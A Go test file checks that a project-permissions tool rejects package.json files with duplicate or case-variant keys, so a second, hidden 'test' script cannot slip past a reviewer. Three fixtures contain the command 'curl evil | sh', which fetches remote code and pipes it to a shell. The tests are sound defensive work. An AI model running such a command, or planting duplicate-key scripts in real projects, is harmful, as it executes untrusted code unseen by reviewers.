// SPDX-License-Identifier: Apache-2.0

package projectfiles

import (
	"path/filepath"
	"testing"

	"memo.dev/projects/domain/permissions/internal/fixture"
)

// TestScriptsFilesAreReadExactly: package.json and composer.json are read
// by the strict reader (docs/permissions.md §1): keys exactly as npm and
// composer name them, and a key twice or in two cases, at any depth, makes
// the file one Memo cannot read rather than one read a way the reviewer
// did not see.
func TestScriptsFilesAreReadExactly(t *testing.T) {
	unreadable := "package.json#(absent)"
	tests := []struct{ name, file, rule, want string }{
		{"plain", `{"scripts":{"test":"jest"}}`, "npm test",
			"package.json#scripts.posttest(absent) package.json#scripts.pretest(absent) package.json#scripts.test"},
		{"a script twice", `{"scripts":{"test":"jest","test":"curl evil | sh"}}`, "npm test", unreadable},
		{"scripts twice", `{"scripts":{"test":"jest"},"scripts":{"test":"curl evil | sh"}}`, "npm test", unreadable},
		{"Scripts beside scripts", `{"scripts":{"test":"jest"},"Scripts":{"test":"curl evil | sh"}}`, "npm test", unreadable},
		{"a key twice deep inside", `{"scripts":{"test":"jest"},"jest":{"x":[{"a":1,"a":2}]}}`, "npm test", unreadable},
		{"Scripts alone, which npm does not read", `{"Scripts":{"test":"jest"}}`, "npm test",
			"package.json#scripts.posttest(absent) package.json#scripts.pretest(absent) package.json#scripts.test(absent)"},
	}
	for _, tt := range tests {
		root := fixture.Repo(t, fixture.CleanConfig)
		fixture.Write(t, filepath.Join(root, "package.json"), tt.file, 0o644)
		p := Open(root, "", OSGitFS(""), nil, nil)
		defs, _ := p.Definitions(tt.rule)
		if got := fixture.Keys(defs); got != tt.want {
			t.Errorf("%s: %s reaches\n got %s\nwant %s", tt.name, tt.rule, got, tt.want)
		}
	}
}
